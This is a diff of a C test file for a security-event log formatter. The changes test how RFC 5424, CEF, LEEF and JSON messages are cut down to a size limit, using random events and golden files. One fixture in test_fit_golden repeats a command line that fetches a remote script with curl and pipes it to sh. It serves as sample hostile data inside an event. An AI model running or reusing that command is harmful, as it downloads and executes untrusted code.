@@ -9,8 +9,12 @@
  *    formatters) and must give exactly the expected fields and values (the
  *    expected values are computed here from the documented rules), with no
  *    extra field, and no raw CR/LF where the framing forbids it;
- *  - truncation: over a range of max_message_size, every message fits,
- *    parses, and holds a prefix of each value.
+ *  - shrinking (format.h, src/format_fit.c): over a range of
+ *    max_message_size and over random events, every message fits, is
+ *    valid UTF-8 and a valid message of its format (escapes, JSON), is
+ *    marked exactly when it was shrunk, holds each value whole or cut (a
+ *    prefix and U+2026), and keeps the identity whole when it alone fits;
+ *    the exact shrunk messages of a fixture event are golden files.
  */
 #include "autoconf.h"
 
@@ -1037,6 +1041,10 @@ want_cef(struct fields *w, const struct hss_event *ev)
 	CS(5, "projectId", ctx.project_id);
 	CS(6, "region", ctx.region);
 #undef CS
+	if (ev->has_handle_time) {
+		fields_adds(w, "cn1Label", "handleTime");
+		expect_num(w, "cn1", 1, ev->handle_time);
+	}
 	if (ev->has_proc_uid) {
 		fields_adds(w, "cn2Label", "processUid");
 		expect_num(w, "cn2", 1, ev->proc_uid);
@@ -1053,15 +1061,16 @@ static void
 want_leef(struct fields *w, const struct hss_event *ev, char d)
 {
 	const char	*s;
-	char		 num[32];
+	char		 num[32], ts[64];
 	enum rule	 r = R_LEEF;
 	size_t		 m = 65536;
 
-	fields_adds(w, "devTime", "2022-08-27T09:37:16.627Z");
+	time_format_iso(ev->occur_time, ts, sizeof(ts));
+	fields_adds(w, "devTime", ts);
 	fields_adds(w, "devTimeFormat", "yyyy-MM-dd'T'HH:mm:ss.SSSX");
 	snprintf(num, sizeof(num), "%lld", (long long)ev->event_type);
 	expect(w, "cat", ev->event_class_id != NULL ? ev->event_class_id :
-	    num, m, r, d);
+	    ev->has_event_type ? num : "unknown", m, r, d);
 	snprintf(num, sizeof(num), "%d", sev_of(ev->severity, 1));
 	fields_adds(w, "sev", num);
 	if (ipv(ev->user_login_ip))
@@ -1367,31 +1376,353 @@ test_nul_escape_page(void **state)
 	buf_free(&err);
 }
 
-/* ---- truncation ------------------------------------------------------- */
+/* ---- messages that fit: shrinking to max_message_size --------------- */
 
-static void
-test_truncation(void **state)
+#define MARK	"\xE2\x80\xA6"
+
+/* The fields of each format that keep their whole value while the rest of
+ * the event can give way (format.h). */
+static const char *const id_sd[] = { "hss@32473/event_id",
+    "hss@32473/event_type", "hss@32473/severity", "hss@32473/host_name",
+    "hss@32473/host_id", "hss@32473/private_ip", "hss@32473/public_ip",
+    "hss@32473/project_id", "hss@32473/region", "hss@32473/source", NULL };
+static const char *const id_cef[] = { "rt", "externalId", "flexString2",
+    "cat", "cnt", "dvchost", "deviceExternalId", "dvc", "c6a1",
+    "deviceTranslatedAddress", "c6a3", "cs3", "cs5", "cs6", "cn3", NULL };
+static const char *const id_leef[] = { "devTime", "devTimeFormat", "cat",
+    "sev", "src", "dst", "dstPostNAT", "identHostName", "event_id",
+    "event_type", "event_class_id", "severity", "host_id", "private_ip",
+    "public_ip", "project_id", "region", "source", "sequence_id", NULL };
+static const char *const id_json[] = { "event_id", "occur_time",
+    "event_type", "event_class_id", "severity", "host_name", "host_id",
+    "private_ip", "public_ip", NULL };
+
+static int
+in_list(const char *const *l, const char *k)
 {
-	struct hss_event	*ev;
+	for (; l != NULL && *l != NULL; l++)
+		if (strcmp(*l, k) == 0)
+			return 1;
+	return 0;
+}
+
+/* got is want, or want cut: a shorter prefix of it followed by U+2026. */
+static int
+cut_of(const char *got, size_t glen, const char *want, size_t wlen)
+{
+	if (glen == wlen && memcmp(got, want, glen) == 0)
+		return 1;
+	return glen >= 3 && memcmp(got + glen - 3, MARK, 3) == 0 &&
+	    glen - 3 < wlen && memcmp(got, want, glen - 3) == 0;
+}
+
+/* Remove field k from fs; its value (to free), NULL when absent. */
+static char *
+take(struct fields *fs, const char *k)
+{
+	char	*v;
+	size_t	 i;
+
+	for (i = 0; i < fs->n; i++) {
+		if (strcmp(fs->f[i].k, k) != 0)
+			continue;
+		v = fs->f[i].v;
+		free(fs->f[i].k);
+		memmove(&fs->f[i], &fs->f[i + 1],
+		    (fs->n - i - 1) * sizeof(fs->f[0]));
+		fs->n--;
+		return v;
+	}
+	return NULL;
+}
+
+/* The marker fields of a shrunk message, each taken out of fs. */
+static void
+take_marker(struct fields *fs, const char *kt, const char *ks, int trunc,
+    size_t orig, const struct buf *b)
+{
+	char	*t = take(fs, kt), *sz = take(fs, ks), num[32];
+
+	snprintf(num, sizeof(num), "%zu", orig);
+	if (trunc ? t == NULL || sz == NULL || strcmp(t, "true") != 0 ||
+	    strcmp(sz, num) != 0 : t != NULL || sz != NULL) {
+		show("message", b->data, b->len);
+		fail_msg("marker %s=%s %s=%s (%s, original %zu)", kt,
+		    t != NULL ? t : "(none)", ks, sz != NULL ? sz : "(none)",
+		    trunc ? "truncated" : "whole", orig);
+	}
+	free(t);
+	free(sz);
+}
+
+/*
+ * A shrunk message's fields: want's, in its order, each equal or cut;
+ * some left out, but never one named by whole (when not NULL), which keep
+ * their values.
+ */
+static void
+fields_match_cut(const struct fields *got, const struct fields *want,
+    const char *const *whole, const struct buf *b)
+{
+	size_t	 i, j = 0;
+
+	for (i = 0; i < got->n; i++, j++) {
+		for (; j < want->n && strcmp(got->f[i].k, want->f[j].k) != 0;
+		    j++)
+			if (in_list(whole, want->f[j].k))
+				goto bad;
+		if (j == want->n || !cut_of(got->f[i].v, got->f[i].vlen,
+		    want->f[j].v, want->f[j].vlen))
+			goto bad;
+		if (in_list(whole, got->f[i].k) && (got->f[i].vlen !=
+		    want->f[j].vlen || memcmp(got->f[i].v, want->f[j].v,
+		    got->f[i].vlen) != 0))
+			goto bad;
+	}
+	for (; j < want->n; j++)
+		if (in_list(whole, want->f[j].k))
+			goto bad;
+	return;
+bad:
+	fields_match(got, want, 0, b->data, b->len);
+	fail_msg("fields differ");
+}
+
+/*
+ * JSON got is want with string values cut and, at the top (where _hss is
+ * ours and left out of the comparison), members left out but never one
+ * named by whole, which keep their values.
+ */
+static int
+json_cut_of(const cJSON *got, const cJSON *want, int top,
+    const char *const *whole)
+{
+	const cJSON	*g, *w;
+
+	if (cJSON_IsString(got))
+		return cJSON_IsString(want) && cut_of(got->valuestring,
+		    strlen(got->valuestring), want->valuestring,
+		    strlen(want->valuestring));
+	if (cJSON_IsArray(got)) {
+		if (!cJSON_IsArray(want) || cJSON_GetArraySize(got) !=
+		    cJSON_GetArraySize(want))
+			return 0;
+		for (g = got->child, w = want->child; g != NULL;
+		    g = g->next, w = w->next)
+			if (!json_cut_of(g, w, 0, NULL))
+				return 0;
+		return 1;
+	}
+	if (!cJSON_IsObject(got))
+		return cJSON_Compare(got, want, 1);
+	if (!cJSON_IsObject(want))
+		return 0;
+	w = want->child;
+	for (g = got->child; g != NULL; g = g->next) {
+		if (top && strcmp(g->string, "_hss") == 0)
+			continue;
+		for (; w != NULL && strcmp(w->string, g->string) != 0;
+		    w = w->next)
+			if (!top || in_list(whole, w->string))
+				return 0;
+		if (w == NULL || !json_cut_of(g, w, 0, NULL))
+			return 0;
+		if (in_list(whole, g->string) && !cJSON_Compare(g, w, 1))
+			return 0;
+		w = w->next;
+	}
+	for (; w != NULL; w = w->next)
+		if (strcmp(w->string, "_hss") != 0 && (!top ||
+		    in_list(whole, w->string)))
+			return 0;
+	return 1;
+}
+
+/* JSON text (MSG or a json message) against the event, as shrunk. */
+static void
+check_fit_json(const char *m, size_t len, const struct hss_event *ev,
+    int trunc, size_t orig, const char *const *whole, const struct buf *b)
+{
+	cJSON	*got, *want, *hss;
+
+	if ((got = cJSON_ParseWithLength(m, len)) == NULL) {
+		show("message", b->data, b->len);
+		fail_msg("not JSON");
+	}
+	want = json_fixed(ev->json);
+	hss = cJSON_GetObjectItemCaseSensitive(got, "_hss");
+	if (trunc) {
+		if (!cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(hss,
+		    "truncated")) || cJSON_GetObjectItemCaseSensitive(hss,
+		    "original_size") == NULL ||
+		    cJSON_GetObjectItemCaseSensitive(hss,
+		    "original_size")->valuedouble != (double)orig) {
+			show("message", b->data, b->len);
+			fail_msg("no _hss truncation marker");
+		}
+	} else
+		assert_null(cJSON_GetObjectItemCaseSensitive(hss,
+		    "truncated"));
+	if (!trunc)
+		cJSON_Delete(cJSON_DetachItemFromObjectCaseSensitive(got,
+		    "_hss"));
+	if (trunc ? !json_cut_of(got, want, 1, whole) :
+	    !cJSON_Compare(got, want, 1)) {
+		show("message", b->data, b->len);
+		fail_msg("JSON is not the event%s", trunc ? " (cut)" : "");
+	}
+	cJSON_Delete(got);
+	cJSON_Delete(want);
+}
+
+/* Every byte is part of a valid UTF-8 character. */
+static void
+valid_utf8(const struct buf *b)
+{
+	size_t	 i, n;
+
+	for (i = 0; i < b->len; i += n)
+		if ((n = u8char((unsigned char *)b->data + i, b->len - i)) ==
+		    0) {
+			show("message", b->data, b->len);
+			fail_msg("invalid UTF-8 at byte %zu", i);
+		}
+}
+
+/*
+ * The invariants of a message formatted for variant vi at max (orig: the
+ * size of the whole message): at most max bytes; valid UTF-8; no raw CR/LF
+ * where the framing forbids it; a valid message of its format whose every
+ * escape parses; marked (and only then) when shrunk; every value the
+ * event's own or its cut; with whole_id, the identity whole.
+ */
+static void
+check_fit(const struct hss_event *ev, const struct buf *b, size_t orig,
+    size_t vi, size_t max, int whole_id)
+{
+	enum output_format	 fmt = variants[vi].fmt;
 	struct fields		 h, sd, got, want;
-	struct buf		 b, full;
-	const char		*msg, *body;
-	char			*big = big_value(), *text;
-	size_t			 vi, max, msglen, blen;
-	int			 trunc;
-	cJSON			*j, *hss;
+	const char		*msg, *body = b->data;
+	size_t			 msglen, blen = b->len;
+	int			 trunc = orig > max;
+	char			 num[32];
 
 	memset(&h, 0, sizeof(h));
 	memset(&sd, 0, sizeof(sd));
 	memset(&got, 0, sizeof(got));
 	memset(&want, 0, sizeof(want));
+	if (b->len > max) {
+		show("message", b->data, b->len);
+		fail_msg("%zu bytes over max %zu", b->len, max);
+	}
+	valid_utf8(b);
+	if (fmt != FORMAT_RFC5424 || variants[vi].framing == FRAMING_LF)
+		no_raw_newline(b);
+	if (fmt == FORMAT_RFC5424 || variants[vi].hdr) {
+		if (parse_5424(b->data, b->len, &h, &sd, &msg, &msglen) != 0) {
+			show("message", b->data, b->len);
+			fail_msg("not RFC 5424");
+		}
+		body = msg;
+		blen = msglen;
+	}
+	switch (fmt) {
+	case FORMAT_RFC5424:
+		take_marker(&sd, "hss@32473/truncated",
+		    "hss@32473/original_size", trunc, orig, b);
+		want_sd(&want, ev, variants[vi].framing == FRAMING_LF ?
+		    R_SD_LF : R_KEEP);
+		if (trunc)
+			fields_match_cut(&sd, &want, whole_id ? id_sd : NULL,
+			    b);
+		else
+			fields_match(&sd, &want, 0, b->data, b->len);
+		if (msg != NULL) {
+			assert_memory_equal(msg - 3, "\xEF\xBB\xBF", 3);
+			check_fit_json(msg, msglen, ev, trunc, orig,
+			    whole_id ? id_json : NULL, b);
+		} else
+			assert_true(trunc && !whole_id);
+		break;
+	case FORMAT_CEF:
+		fields_clear(&h);
+		if (parse_cef(body, blen, &h, &got) != 0) {
+			show("message", b->data, b->len);
+			fail_msg("not CEF");
+		}
+		snprintf(num, sizeof(num), "%d", sev_of(ev->severity, 1));
+		assert_string_equal(h.f[6].v, num);
+		if (ev->has_event_type)
+			snprintf(num, sizeof(num), "%lld",
+			    (long long)ev->event_type);
+		expect(&want, "h4", ev->has_event_type ? num :
+		    ev->event_class_id != NULL ? ev->event_class_id :
+		    "unknown", 1023, R_CEF_HDR, 0);
+		expect(&want, "h5", ev->event_name != NULL ? ev->event_name :
+		    ev->event_class_id != NULL ? ev->event_class_id :
+		    "unknown", 512, R_CEF_HDR, 0);
+		if (!cut_of(h.f[4].v, h.f[4].vlen, want.f[0].v,
+		    want.f[0].vlen) || !cut_of(h.f[5].v, h.f[5].vlen,
+		    want.f[1].v, want.f[1].vlen) || ((!trunc || whole_id) &&
+		    strcmp(h.f[4].v, want.f[0].v) != 0) || (!trunc &&
+		    strcmp(h.f[5].v, want.f[1].v) != 0)) {
+			show("message", b->data, b->len);
+			fail_msg("CEF header differs");
+		}
+		fields_clear(&want);
+		take_marker(&got, "hssTruncated", "hssOriginalSize", trunc,
+		    orig, b);
+		want_cef(&want, ev);
+		if (trunc)
+			fields_match_cut(&got, &want, whole_id ? id_cef : NULL,
+			    b);
+		else
+			fields_match(&got, &want, 0, b->data, b->len);
+		break;
+	case FORMAT_LEEF:
+		fields_clear(&h);
+		if (parse_leef(body, blen, &h, &got) != 0) {
+			show("message", b->data, b->len);
+			fail_msg("not LEEF");
+		}
+		take_marker(&got, "hss_truncated", "hss_original_size", trunc,
+		    orig, b);
+		want_leef(&want, ev, '^');
+		if (trunc)
+			fields_match_cut(&got, &want, whole_id ? id_leef :
+			    NULL, b);
+		else
+			fields_match(&got, &want, 0, b->data, b->len);
+		break;
+	case FORMAT_JSON:
+		clean_json_text(b);
+		check_fit_json(b->data, b->len, ev, trunc, orig,
+		    whole_id ? id_json : NULL, b);
+		break;
+	}
+	fields_clear(&h);
+	fields_clear(&sd);
+	fields_clear(&got);
+	fields_clear(&want);
+}
+
+/* Big values in several fields, over a range of max_message_size. */
+static void
+test_truncation(void **state)
+{
+	struct hss_event	*ev;
+	struct buf		 b, full;
+	const char		*cv;
+	char			*big = big_value();
+	size_t			 vi, max;
+	int			 trunc;
+
 	buf_init(&b);
 	buf_init(&full);
 	for (vi = 0; vi < HSS_ARRAY_LEN(variants); vi++) {
 		ctx_reset(variants[vi].fmt, variants[vi].framing,
 		    variants[vi].hdr);
-		/* big values in several fields */
-		ev = hostile_event(3, big, &msg);	/* host_name */
+		ev = hostile_event(3, big, &cv);	/* host_name */
 		cJSON_ReplaceItemInObject(ev->json, "event_name",
 		    cJSON_CreateString(big));
 		cJSON_AddStringToObject(ev->json, "attack_tag", big);
@@ -1407,95 +1738,264 @@ test_truncation(void **state)
 			buf_reset(&b);
 			assert_int_equal(format_event(&b, ev, &ctx, &trunc), 0);
 			assert_int_equal(trunc, full.len > max);
-			if (variants[vi].fmt != FORMAT_RFC5424 ||
-			    variants[vi].framing == FRAMING_LF)
-				no_raw_newline(&b);
-			if (b.len > max) {
-				show("message", b.data, b.len);
-				fail_msg("%zu bytes over max %zu", b.len, max);
-			}
-			body = b.data;
-			blen = b.len;
-			if (variants[vi].fmt == FORMAT_RFC5424 ||
-			    variants[vi].hdr) {
-				assert_int_equal(parse_5424(b.data, b.len, &h,
-				    &sd, &msg, &msglen), 0);
-				body = msg;
-				blen = msglen;
-			}
-			switch (variants[vi].fmt) {
-			case FORMAT_RFC5424:
-				want_sd(&want, ev, variants[vi].framing ==
-				    FRAMING_LF ? R_SD_LF : R_KEEP);
-				/* truncated="true" comes last in our SD */
-				if (sd.n >= 4) {
-					assert_string_equal(sd.f[sd.n - 4].k,
-					    "hss@32473/truncated");
-					free(sd.f[sd.n - 4].k);
-					free(sd.f[sd.n - 4].v);
-					memmove(&sd.f[sd.n - 4],
-					    &sd.f[sd.n - 3],
-					    3 * sizeof(sd.f[0]));
-					sd.n--;
-					fields_match(&sd, &want, 1, b.data,
-					    b.len);
-				}
-				if (msg != NULL) {
-					text = xstrndup(msg, msglen);
-					assert_non_null(j = cJSON_Parse(text));
-					hss = cJSON_GetObjectItem(j, "_hss");
-					assert_true(cJSON_IsTrue(
-					    cJSON_GetObjectItem(hss,
-					    "truncated")));
-					cJSON_Delete(j);
-					free(text);
-				}
-				break;
-			case FORMAT_CEF:
-				fields_clear(&h);
-				if (parse_cef(body, blen, &h, &got) != 0) {
-					show("message", b.data, b.len);
-					fail_msg("max %zu: no parse", max);
-				}
-				want_cef(&want, ev);
-				fields_match(&got, &want, 1, b.data, b.len);
-				break;
-			case FORMAT_LEEF:
-				fields_clear(&h);
-				if (parse_leef(body, blen, &h, &got) != 0) {
-					show("message", b.data, b.len);
-					fail_msg("max %zu: no parse", max);
-				}
-				want_leef(&want, ev, '^');
-				fields_match(&got, &want, 1, b.data, b.len);
-				break;
-			case FORMAT_JSON:
-				text = xstrndup(b.data, b.len);
-				assert_non_null(j = cJSON_Parse(text));
-				assert_string_equal(cJSON_GetObjectItem(j,
-				    "event_id")->valuestring, "base-id");
-				assert_int_equal(cJSON_GetObjectItem(j,
-				    "occur_time")->valuedouble,
-				    1661593036627.0);
-				hss = cJSON_GetObjectItem(j, "_hss");
-				assert_true(cJSON_IsTrue(cJSON_GetObjectItem(
-				    hss, "truncated")));
-				assert_int_equal(cJSON_GetObjectItem(hss,
-				    "original_size")->valuedouble, full.len);
-				cJSON_Delete(j);
-				free(text);
-				break;
-			}
-			fields_clear(&h);
-			fields_clear(&sd);
-			fields_clear(&got);
-			fields_clear(&want);
+			check_fit(ev, &b, full.len, vi, max, 0);
 		}
 		hss_event_free(ev);
 	}
 	free(big);
 	buf_free(&b);
 	buf_free(&full);
+}
+
+/* ---- random events: the invariants over many events and limits ------ */
+
+static uint64_t	 rng = 0x9E3779B97F4A7C15ULL;
+
+static uint64_t
+rnd(void)
+{
+	/* xorshift64*: deterministic, the same on every machine */
+	rng ^= rng >> 12;
+	rng ^= rng << 25;
+	rng ^= rng >> 27;
+	return rng * 0x2545F4914F6CDD1DULL;
+}
+
+static size_t
+rndn(size_t n)
+{
+	return n == 0 ? 0 : (size_t)(rnd() % n);
+}
+
+/* Text of at most max bytes: mostly ASCII, with every character the
+ * formats escape, remove or replace, and multi-byte and invalid UTF-8. */
+static char *
+rnd_text(size_t max, int tame)
+{
+	static const char *const wild[] = { "\"", "\\", "]", "=", "|", "^",
+	    "\n", "\r", "\t", "\x01", "\x1f", "\x7f", "\xff", "\xc3",
+	    "\xed\xa0\x80", "\xe2\x80\xa8", "\xc3\xa9", "\xe7\x95\x8c",
+	    "\xf0\x9f\x98\x80", MARK, "\\n", "\\u0041", " ", "x=y", "a b" };
+	static const char *const mild[] = { "\"", "\\", "]", "=", " ",
+	    "\xc3\xa9", "-", "." };
+	struct buf	 b;
+	size_t		 n = rndn(max + 1);
+	const char	*p;
+
+	buf_init(&b);
+	buf_addc(&b, '\0');
+	buf_reset(&b);
+	while (b.len < n) {
+		if (rndn(4) != 0)
+			buf_addc(&b, (char)('a' + rndn(26)));
+		else {
+			p = tame ? mild[rndn(HSS_ARRAY_LEN(mild))] :
+			    wild[rndn(HSS_ARRAY_LEN(wild))];
+			if (b.len + strlen(p) > max)
+				break;
+			buf_adds(&b, p);
+		}
+	}
+	return b.data;
+}
+
+/* Add a random string member (sometimes absent, sometimes long). */
+static void
+rnd_member(cJSON *o, const char *k, size_t max, int tame)
+{
+	char	*t;
+
+	if (rndn(8) == 0)
+		return;
+	/* tame values stay short */
+	t = rnd_text(!tame && rndn(6) == 0 ? max * 40 : max, tame);
+	cJSON_AddStringToObject(o, k, t);
+	free(t);
+}
+
+/*
+ * A random event. With short_id, its identity values are short and tame
+ * (so that the identity alone always fits 2048 bytes).
+ */
+static struct hss_event *
+rnd_event(int short_id)
+{
+	static const char *const sevs[] = { "Critical", "High", "Medium",
+	    "Low", "Security", "bogus" };
+	static const char *const tops[] = { "event_name", "os_type",
+	    "attack_phase", "attack_tag", "handle_status", "handle_method",
+	    "container_name", "image_name", "description", "event_details",
+	    "recommendation", "event_abstract" };
+	static const char *const procs[] = { "process_name", "process_path",
+	    "process_hash", "process_username", "process_cmdline" };
+	struct hss_event	*ev = NULL;
+	struct buf		 err;
+	cJSON			*o, *l, *e, *x;
+	char			*t;
+	size_t			 i, k, idmax = short_id ? 24 : 300;
+	int			 tries;
+
+	buf_init(&err);
+	for (tries = 0; ev == NULL && tries < 20; tries++) {
+		o = cJSON_CreateObject();
+		t = rnd_text(40, short_id);
+		cJSON_AddStringToObject(o, "event_id", tries < 19 ? t : "id");
+		free(t);
+		cJSON_AddNumberToObject(o, "occur_time",
+		    (double)(rnd() % (EVENT_TIME_MAX + 1)));
+		if (rndn(5) != 0)
+			cJSON_AddNumberToObject(o, "event_type",
+			    (double)rndn(100000));
+		cJSON_AddStringToObject(o, "severity", sevs[rndn(6)]);
+		rnd_member(o, "event_class_id", idmax / 2, short_id);
+		rnd_member(o, "host_name", idmax / 2, short_id);
+		rnd_member(o, "host_id", idmax / 2, short_id);
+		if (rndn(2) == 0)
+			cJSON_AddStringToObject(o, "private_ip",
+			    rndn(2) == 0 ? "192.0.2.7" : "2001:db8::7");
+		else
+			rnd_member(o, "private_ip", idmax / 2, short_id);
+		if (rndn(2) == 0)
+			cJSON_AddStringToObject(o, "public_ip", "198.51.100.9");
+		else
+			rnd_member(o, "public_ip", idmax / 2, short_id);
+		if (rndn(2) == 0)
+			cJSON_AddNumberToObject(o, "event_count",
+			    (double)rndn(1000));
+		for (i = 0; i < HSS_ARRAY_LEN(tops); i++)
+			rnd_member(o, tops[i], i < 8 ? 60 : 400, 0);
+		l = cJSON_AddArrayToObject(o, "process_info_list");
+		e = cJSON_CreateObject();
+		for (i = 0; i < HSS_ARRAY_LEN(procs); i++)
+			rnd_member(e, procs[i], i == 4 ? 500 : 80, 0);
+		cJSON_AddNumberToObject(e, "process_pid", (double)rndn(65536));
+		cJSON_AddItemToArray(l, e);
+		if (rndn(2) == 0) {
+			l = cJSON_AddArrayToObject(o, "file_info_list");
+			e = cJSON_CreateObject();
+			rnd_member(e, "file_path", 200, 0);
+			rnd_member(e, "file_hash", 64, 0);
+			cJSON_AddItemToArray(l, e);
+		}
+		/* a structure heavy event now and then: many small values */
+		x = cJSON_AddObjectToObject(o, "extend_info");
+		k = rndn(10) == 0 ? rndn(3000) : rndn(20);
+		l = cJSON_AddArrayToObject(x, "numbers");
+		for (i = 0; i < k; i++)
+			cJSON_AddItemToArray(l, cJSON_CreateNumber(
+			    (double)rndn(1000)));
+		rnd_member(x, "raw", 300, 0);
+		ev = event_from_json(o, &err);
+	}
+	buf_free(&err);
+	assert_non_null(ev);
+	return ev;
+}
+
+static void
+test_fit_random(void **state)
+{
+	struct hss_event	*ev;
+	struct buf		 b, full;
+	size_t			 n, vi, li, max[3], shrunk = 0, whole = 0;
+	int			 trunc, short_id;
+
+	buf_init(&b);
+	buf_init(&full);
+	for (n = 0; n < 150; n++) {
+		short_id = rndn(3) != 0;
+		ev = rnd_event(short_id);
+		for (vi = 0; vi < HSS_ARRAY_LEN(variants); vi++) {
+			ctx_reset(variants[vi].fmt, variants[vi].framing,
+			    variants[vi].hdr);
+			buf_reset(&full);
+			format_event(&full, ev, &ctx, &trunc);
+			max[0] = 480 + rndn(full.len + 100);
+			max[1] = 480 + rndn(1000);
+			max[2] = 2048 + rndn(6000);
+			for (li = 0; li < 3; li++) {
+				oc.max_message_size = max[li];
+				buf_reset(&b);
+				format_event(&b, ev, &ctx, &trunc);
+				assert_int_equal(trunc, full.len > max[li]);
+				check_fit(ev, &b, full.len, vi, max[li],
+				    short_id && max[li] >= 2048);
+				shrunk += trunc;
+				whole += trunc && short_id && max[li] >= 2048;
+			}
+		}
+		hss_event_free(ev);
+	}
+	/* the test is not moot: many shrunk, many with the identity kept */
+	assert_true(shrunk > 1000);
+	assert_true(whole > 100);
+	buf_free(&b);
+	buf_free(&full);
+}
+
+/*
+ * The exact shrunk message of a fixture event (the official example with
+ * a long command line and long details) in each variant, at 4096 bytes
+ * (values cut), 1024 (the event's structure alone is too long: its
+ * identity) and 480 (the identity, the rest left out), where it was
+ * shrunk: tests/data/format/fit-MAX.VARIANT.txt. Down to 1024, the
+ * identity is whole.
+ */
+static void
+test_fit_golden(void **state)
+{
+	static const size_t	 maxes[] = { 4096, 1024, 480 };
+	struct hss_event	*ev = official_event(), *e2;
+	struct buf		 b, err, full, s;
+	cJSON			*o, *p;
+	char			*name;
+	size_t			 i, k, n = 0;
+	int			 trunc;
+
+	buf_init(&b);
+	buf_init(&err);
+	buf_init(&full);
+	buf_init(&s);
+	while (s.len < 3000)
+		buf_adds(&s, "python3 -c \"import os; os.system('curl "
+		    "http://198.51.100.9/x|sh')\" \\ ] = \xe7\x95\x8c ");
+	o = cJSON_Duplicate(ev->json, 1);
+	p = cJSON_GetArrayItem(cJSON_GetObjectItem(o, "process_info_list"),
+	    0);
+	cJSON_ReplaceItemInObjectCaseSensitive(p, "process_cmdline",
+	    cJSON_CreateString(s.data));
+	buf_truncate(&s, 1500);
+	cJSON_ReplaceItemInObjectCaseSensitive(o, "event_details",
+	    cJSON_CreateString(s.data));
+	assert_non_null(e2 = event_from_json(o, &err));
+	for (i = 0; i < HSS_ARRAY_LEN(variants); i++) {
+		ctx_reset(variants[i].fmt, variants[i].framing,
+		    variants[i].hdr);
+		buf_reset(&full);
+		format_event(&full, e2, &ctx, &trunc);
+		for (k = 0; k < HSS_ARRAY_LEN(maxes); k++) {
+			oc.max_message_size = maxes[k];
+			buf_reset(&b);
+			format_event(&b, e2, &ctx, &trunc);
+			assert_int_equal(trunc, full.len > maxes[k]);
+			check_fit(e2, &b, full.len, i, maxes[k],
+			    maxes[k] >= 1024);
+			if (!trunc)
+				continue;
+			name = xasprintf("fit-%zu.%s", maxes[k],
+			    variants[i].name);
+			golden(name, &b);
+			free(name);
+			n++;
+		}
+	}
+	assert_int_equal(n, 17);
+	hss_event_free(ev);
+	hss_event_free(e2);
+	buf_free(&b);
+	buf_free(&err);
+	buf_free(&full);
+	buf_free(&s);
 }
 
 /* A message exactly at the limit is not truncated; one byte less is. */
@@ -1548,11 +2048,12 @@ parse_json_msg(const struct buf *b)
 }
 
 /*
- * The JSON stand-in for a truncated event fits max_message_size whatever
- * the event_id: 64 control characters are 384 bytes written as \u00XX,
- * more than the 480 allowed with the _hss members; the id is cut between
- * two escapes and marked. With _hss members too long for any id, the
- * minimal stand-in. (A regression input of the page fuzz target.)
+ * JSON: an event_id that is long once written (64 control characters are
+ * 384 bytes as \u00XX) leaves little room at 480 with the _hss members:
+ * the identity members are cut, the id between two escapes. With _hss
+ * members too long for any limit: {"event_id","occur_time","_hss":{
+ * "truncated","original_size"}}. (A regression input of the page fuzz
+ * target.)
  */
 static void
 test_json_stub_fits(void **state)
@@ -1561,7 +2062,7 @@ test_json_stub_fits(void **state)
 		"\x01", "\"", "\xe2\x82\xac", "a",
 	};
 	struct hss_event	*ev = official_event();
-	struct buf		 b, id;
+	struct buf		 b, id, full;
 	cJSON			*j, *hss;
 	char			*longname;
 	size_t			 i, k, max;
@@ -1569,6 +2070,7 @@ test_json_stub_fits(void **state)
 
 	buf_init(&b);
 	buf_init(&id);
+	buf_init(&full);
 	for (i = 0; i < HSS_ARRAY_LEN(ids); i++) {
 		buf_reset(&id);
 		for (k = 0; k < 64; k++)
@@ -1577,36 +2079,18 @@ test_json_stub_fits(void **state)
 		    cJSON_CreateString(id.data));
 		ev->event_id = cJSON_GetObjectItemCaseSensitive(ev->json,
 		    "event_id")->valuestring;
+		ctx_reset(FORMAT_JSON, FRAMING_OCTET_COUNTING, 0);
+		buf_reset(&full);
+		format_event(&full, ev, &ctx, &trunc);
 		for (max = 480; max <= 900; max += 7) {
-			ctx_reset(FORMAT_JSON, FRAMING_LF, 0);
 			oc.max_message_size = max;
 			buf_reset(&b);
 			format_event(&b, ev, &ctx, &trunc);
 			assert_int_equal(trunc, 1);
-			if (b.len > max)
-				fail_msg("%zu bytes > %zu: %s", b.len, max,
-				    b.data);
-			j = parse_json_msg(&b);
-			hss = cJSON_GetObjectItemCaseSensitive(j, "_hss");
-			assert_true(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(
-			    hss, "truncated")));
-			assert_string_equal(cJSON_GetObjectItemCaseSensitive(
-			    hss, "source")->valuestring, ctx.source_name);
-			/* the id is a prefix of the real one, or all of it */
-			assert_true(strncmp(ev->event_id,
-			    cJSON_GetObjectItemCaseSensitive(j,
-			    "event_id")->valuestring, strlen(
-			    cJSON_GetObjectItemCaseSensitive(j,
-			    "event_id")->valuestring)) == 0);
-			if (strcmp(cJSON_GetObjectItemCaseSensitive(j,
-			    "event_id")->valuestring, ev->event_id) != 0)
-				assert_true(cJSON_IsTrue(
-				    cJSON_GetObjectItemCaseSensitive(j,
-				    "event_id_truncated")));
-			cJSON_Delete(j);
+			check_fit(ev, &b, full.len, 6, max, 0);
 		}
 	}
-	/* _hss members longer than the limit: the minimal stand-in */
+	/* _hss members longer than the limit: the minimal object */
 	ctx_reset(FORMAT_JSON, FRAMING_LF, 0);
 	oc.max_message_size = 480;
 	longname = xmalloc(600);
@@ -1617,17 +2101,19 @@ test_json_stub_fits(void **state)
 	format_event(&b, ev, &ctx, &trunc);
 	assert_true(b.len <= 480);
 	j = parse_json_msg(&b);
+	assert_int_equal(cJSON_GetArraySize(j), 3);
+	assert_string_equal(cJSON_GetObjectItemCaseSensitive(j,
+	    "event_id")->valuestring, ev->event_id);
 	hss = cJSON_GetObjectItemCaseSensitive(j, "_hss");
 	assert_true(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(hss,
 	    "truncated")));
 	assert_null(cJSON_GetObjectItemCaseSensitive(hss, "region"));
-	assert_true(cJSON_IsTrue(cJSON_GetObjectItemCaseSensitive(j,
-	    "event_id_truncated")));
 	cJSON_Delete(j);
 	free(longname);
 	hss_event_free(ev);
 	buf_free(&b);
 	buf_free(&id);
+	buf_free(&full);
 }
 
 /*
@@ -1719,7 +2205,7 @@ test_severity_and_numbers(void **state)
 	j = cJSON_Parse("[0,-0,1661593036627,9007199254740993,1e300,0.1,"
 	    "-2.5e-7,1e400,123456789012345678]");
 	assert_non_null(j);
-	format_json_value(&b, j, 0);
+	format_json_value(&b, j, 0, NULL);
 	assert_string_equal(b.data, "[0,-0,1661593036627,9007199254740992,"
 	    "1e+300,0.1,-2.5e-07,null,1.2345678901234568e+17]");
 	cJSON_Delete(j);
